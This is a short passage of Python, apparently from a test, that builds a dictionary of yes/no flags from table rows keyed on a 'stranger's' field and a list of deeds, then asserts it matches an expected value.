    shown = {(row["a stranger's"], deed): row[deed].startswith("yes") for row in rows for deed in DEEDS}
    assert shown == tried
